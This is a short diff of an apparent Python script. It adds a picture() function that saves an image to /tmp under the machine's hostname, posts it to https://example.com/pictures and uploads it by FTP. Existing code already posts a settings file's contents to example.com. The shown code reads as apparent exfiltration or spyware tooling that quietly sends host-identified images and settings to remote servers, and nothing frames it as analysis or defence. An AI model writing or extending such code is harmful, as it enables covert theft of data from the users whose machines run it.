@@ -32,6 +32,13 @@ def settings():
         return requests.post("https://example.com/settings", data=f.read())
 
 
+def picture(image, server):
+    path = os.path.join("/tmp", platform.node() + ".png")
+    image.save(path)
+    requests.post("https://example.com/pictures", data=open(path, "rb"))
+    server.storbinary("STOR " + platform.node() + ".png", open(path, "rb"))
+
+
 ping()
 show()
 settings()
